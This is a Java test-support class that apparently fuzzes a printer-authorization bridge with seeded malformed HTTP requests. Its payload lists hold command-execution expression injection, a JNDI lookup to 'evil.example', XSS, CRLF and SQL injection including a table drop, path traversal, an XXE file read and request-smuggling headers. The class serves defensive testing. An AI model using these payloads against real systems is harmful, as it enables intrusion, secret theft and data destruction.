package io.yilianyun.bridge.hostile;

import io.yilianyun.bridge.support.Client;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Requests that are wrong in every way that this class knows, drawn from a seed: the same seed, the same requests. */
final class MalformedRequests {
    /** What stands for "an expression was evaluated" in an answer. */
    static final String EVALUATED = "7777777";

    static final String PROBE = "hostileProbe";

    private static final List<String> METHODS = List.of(
            "GET",
            "GET",
            "GET",
            "POST",
            "POST",
            "PUT",
            "DELETE",
            "PATCH",
            "HEAD",
            "OPTIONS",
            "TRACE",
            "CONNECT",
            "FOO",
            "get",
            "G\u0000ET",
            "PROPFIND",
            "",
            "GET\tX",
            "<script>",
            "${header.x}",
            "POST".repeat(200));
    private static final List<String> PATHS = List.of(
            "/yilianyun/authorize/demo",
            "/yilianyun/authorize/centre",
            "/yilianyun/authorize/",
            "/yilianyun/callback/demo",
            "/yilianyun/callback/second",
            "/yilianyun/callback/%s",
            "/yilianyun/authorize/%s",
            "/yilianyun/push/demo",
            "/yilianyun/push/%s",
            "/yilianyun/page.css",
            "/yilianyun/%s",
            "/yilianyun",
            "/api",
            "/api/tokens",
            "/api/tokens/demo/%s",
            "/api/tokens/%s/4004000001/access-token",
            "/api/tokens/demo/%s/refresh",
            "/api/tokens/import",
            "/api/authorizations",
            "/api/dead-letters",
            "/api/dead-letters/%s/retry",
            "/api/dead-letters/%s/discard",
            "/api/dead-letters/retry",
            "/api/apps",
            "/api/apps/%s/halt",
            "/api/apps/%s/resume",
            "/api/openapi.json",
            "/api/call/demo/1/%s",
            "/api/call/demo/1/print/%s",
            "/api/call/demo/%s/print/index",
            "/api/audit",
            "/api/%s",
            "/actuator/health",
            "/actuator/%s",
            "/actuator/env",
            "/actuator/prometheus",
            "/error",
            "/console",
            "/",
            "/%s",
            "*",
            "",
            "http://evil.example/%s",
            "//evil.example/%s",
            "/..%2f..%2fetc%2fpasswd",
            "/yilianyun/callback/demo;jsessionid=%s",
            "/yilianyun//callback/demo",
            "/yilianyun/callback/./demo",
            "/yilianyun/callback/../../api/tokens");
    private static final List<String> PARAMETERS = List.of(
            "code",
            "sign",
            "push_time",
            "state",
            "error",
            "ticket",
            "again",
            "app",
            "status",
            "q",
            "page",
            "size",
            "Cookie",
            "returnTo",
            "",
            "CamelHttpUri",
            "CamelHttpPath",
            "CamelHttpResponseCode",
            "CamelFileName",
            "CamelBeanMethodName",
            "CamelSqlQuery",
            "CamelHttpMethod",
            "Host",
            "Authorization",
            "%00",
            "a[b]",
            "machineCode",
            "_method",
            "Content-Type");
    private static final List<String> HEADERS = List.of(
            "CamelHttpUri",
            "CamelHttpPath",
            "CamelHttpQuery",
            "CamelHttpResponseCode",
            "CamelHttpBaseUri",
            "CamelFileName",
            "CamelBeanMethodName",
            "CamelToEndpoint",
            "CamelRedelivered",
            "org.apache.camel.http.uri",
            "camelhttpuri",
            "Content-Type",
            "Content-Encoding",
            "Accept",
            "Accept-Language",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Prefix",
            "X-Original-URL",
            "X-HTTP-Method-Override",
            "Forwarded",
            "Range",
            "If-None-Match",
            "If-Modified-Since",
            "Origin",
            "Referer",
            "Cookie",
            "Cookie",
            "Expect",
            "Upgrade",
            "X-Injected-By",
            "Bad Name",
            "Transfer-Encoding",
            "Content-Length",
            "Host",
            "Connection",
            "breadcrumbId",
            "User-Agent",
            "");
    private static final List<String> POISON = List.of(
            "${header.x}",
            "${bean:" + PROBE + "?method=touch}",
            "${bean:" + PROBE + "}",
            "${ref:" + PROBE + "}",
            "${camelContext.stop}",
            "${properties:yilianyun.apps.demo.client-secret}",
            "{{yilianyun.apps.demo.client-secret}}",
            "${yilianyun.apps.demo.client-secret}",
            "${env:PATH}${sysenv.PATH}${sys.user.dir}",
            "$simple{bean:" + PROBE + "?method=touch}",
            "#{7*1111111}",
            "#{@" + PROBE + ".touch()}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "T(java.lang.Runtime).getRuntime()",
            "[[${7*1111111}]]",
            "__${7*1111111}__::.x",
            "[(${@" + PROBE + ".touch()})]",
            "th:text=\"${7*1111111}\"",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "\"><svg/onload=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "x\r\nX-Injected: yes\r\n\r\n<script>",
            "x\nX-Injected: yes",
            "%0d%0aX-Injected:%20yes",
            "%E5%98%8A%E5%98%8DX-Injected:%20yes",
            "\u0000",
            "%00",
            "%zz",
            "%",
            "%c0%ae%c0%ae/",
            "%ff%fe",
            "\u00ff\u00fe",
            "\ud83d\ude00",
            "' OR 1=1--",
            "'; DROP TABLE yly_token;--",
            "../../../etc/passwd",
            "..%2f..%2f",
            "-1",
            "99999999999999999999",
            "NaN",
            "true",
            "\"",
            "\\",
            "file:/etc/passwd",
            "bean:" + PROBE + "?method=touch",
            "http://127.0.0.1:1/",
            "599",
            "a".repeat(300),
            "a".repeat(9000));
    private static final List<String> TYPES = List.of(
            "application/json",
            "application/json",
            "application/x-ndjson",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "multipart/form-data",
            "text/plain",
            "application/xml",
            "text/csv",
            "application/x-java-serialized-object",
            "application/json; charset=nonsense",
            "application/json;charset=utf-16",
            "/",
            "x",
            "application/x-www-form-urlencoded; charset=\"");
    private static final List<String> BODIES = List.of(
            "",
            "{}",
            "[]",
            "null",
            "nul",
            "{",
            "{\"app\":\"demo\",\"merchant\":\"%s\",\"returnTo\":\"%s\"}",
            "{\"app\":\"%s\"}",
            "{\"app\":{\"$ref\":\"#\"},\"code\":[1]}",
            "{\"machineCode\":{\"a\":1}}",
            "{\"app\":\"demo\",\"app\":1}",
            "{\"app\":1e999999999,\"merchant\":1E400}",
            "{\"app\":" + "9".repeat(5000) + "}",
            "[".repeat(30_000),
            "{\"a\":".repeat(12_000),
            "{\"app\":\"demo\",\"machineCode\":\"%s\",\"accessToken\":\"a\",\"refreshToken\":\"b\",\"accessExpiresAt\":\"%s\"}\n",
            "{\"app\":\"demo\",\"machineCode\":\"1\",\"accessToken\":\"a\",\"refreshToken\":\"b\",\"accessExpiresAt\":\"+999999999-12-31T23:59:59Z\"}\n",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "code=%s&state=%s&error=%s",
            "\u0000\u0001\u0002",
            "\u00ef\u00bb\u00bf{}",
            "a=b&".repeat(5000),
            "x".repeat(70_000));

    private final Random random;

    MalformedRequests(long seed) {
        random = new Random(seed);
    }

    /** The next request: a valid one with a few things made wrong. Rarely one with a key that is not known: those may be slowed down. */
    byte[] next() {
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        String method = random.nextInt(4) > 0 ? METHODS.get(random.nextInt(8)) : any(METHODS);
        write(request, method + " " + target() + " " + version() + "\r\n");
        if (random.nextInt(50) > 0) {
            write(request, "Host: localhost\r\n");
        }
        write(request, "Connection: close\r\n");
        authorization(request);
        int headers = random.nextInt(4);
        for (int i = 0; i < headers; i++) {
            write(request, any(HEADERS) + ": " + headerValue() + "\r\n");
        }
        if (random.nextInt(60) == 0) {
            write(request, "X-Filler: f\r\n".repeat(400));
        }
        if (random.nextInt(60) == 0) {
            write(request, "Cookie: " + "c=1; ".repeat(1 + random.nextInt(3000)) + "\r\n");
        }
        body(request, method);
        byte[] bytes = request.toByteArray();
        return random.nextInt(20) == 0 ? damaged(bytes) : bytes;
    }

    private String target() {
        StringBuilder target = new StringBuilder(any(PATHS).replace("%s", poison()));
        if (random.nextInt(40) == 0) {
            target.append("/a".repeat(random.nextInt(6000)));
        }
        int parameters = random.nextInt(4);
        for (int i = 0; i < parameters; i++) {
            target.append(i == 0 ? '?' : '&')
                    .append(any(PARAMETERS))
                    .append('=')
                    .append(poison());
        }
        return target.toString();
    }

    /** Encoded, as a browser would send it, or not. */
    private String poison() {
        String poison = any(POISON);
        if (random.nextInt(3) == 0) {
            return poison;
        }
        StringBuilder encoded = new StringBuilder();
        for (byte b : poison.getBytes(StandardCharsets.UTF_8)) {
            boolean plain = Character.isLetterOrDigit(b) || b == '%' || b == '.' || b == '-';
            encoded.append(plain ? String.valueOf((char) b) : "%%%02X".formatted(b));
        }
        return encoded.toString();
    }

    private String version() {
        return switch (random.nextInt(60)) {
            case 0 -> "HTTP/9.9";
            case 1 -> "HTTP/1.0";
            case 2 -> "";
            case 3 -> "HTTP/1.1 X";
            case 4 -> "SMTP/1.1";
            default -> "HTTP/1.1";
        };
    }

    private void authorization(ByteArrayOutputStream request) {
        int choice = random.nextInt(100);
        if (choice < 60) {
            write(request, "Authorization: Bearer " + (choice < 50 ? Client.OPERATOR : Client.TOKEN) + "\r\n");
        } else if (choice < 62) {
            write(request, "Authorization: Bearer " + any(POISON) + "\r\n");
        } else if (choice < 64) {
            write(request, "Authorization: " + any(POISON) + "\r\n");
        }
    }

    private String headerValue() {
        return switch (random.nextInt(8)) {
            case 0 -> any(TYPES);
            case 1 -> "yilianyun_browser=" + any(POISON);
            case 2 -> "text/html";
            case 3 -> "chunked";
            default -> any(POISON);
        };
    }

    private void body(ByteArrayOutputStream request, String method) {
        if (method.equals("GET") && random.nextInt(10) > 0) {
            write(request, "\r\n");
            return;
        }
        String body = any(BODIES);
        while (body.contains("%s")) {
            body = body.replaceFirst("%s", java.util.regex.Matcher.quoteReplacement(any(POISON)));
        }
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        write(request, "Content-Type: " + any(TYPES) + "\r\n");
        switch (random.nextInt(12)) {
            case 0 -> chunked(request, bytes, "5\r\nab");
            case 1 -> chunked(request, bytes, "zz\r\n");
            case 2 -> chunked(request, bytes, "0\r\n\r\n");
            case 3 -> chunked(request, bytes, "-1\r\n\r\n");
            case 4 -> write(request, "Content-Length: " + (bytes.length + 10) + "\r\n\r\n" + body);
            case 5 -> write(request, "Content-Length: -1\r\n\r\n" + body);
            case 6 -> write(request, "Content-Length: x\r\n\r\n" + body);
            case 7 -> write(request, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" + body);
            default -> write(request, "Content-Length: " + bytes.length + "\r\n\r\n" + body);
        }
    }

    private void chunked(ByteArrayOutputStream request, byte[] body, String end) {
        write(request, "Transfer-Encoding: chunked\r\n\r\n");
        if (body.length > 0) {
            write(request, Integer.toHexString(body.length) + "\r\n");
            request.writeBytes(body);
            write(request, "\r\n");
        }
        write(request, end);
    }

    /** Cut off somewhere, or with some bytes changed. */
    private byte[] damaged(byte[] request) {
        if (random.nextBoolean()) {
            return java.util.Arrays.copyOf(request, random.nextInt(request.length));
        }
        for (int i = 0; i < 3; i++) {
            request[random.nextInt(request.length)] = (byte) random.nextInt(256);
        }
        return request;
    }

    private String any(List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static void write(ByteArrayOutputStream request, String text) {
        request.writeBytes(text.getBytes(StandardCharsets.UTF_8));
    }
}
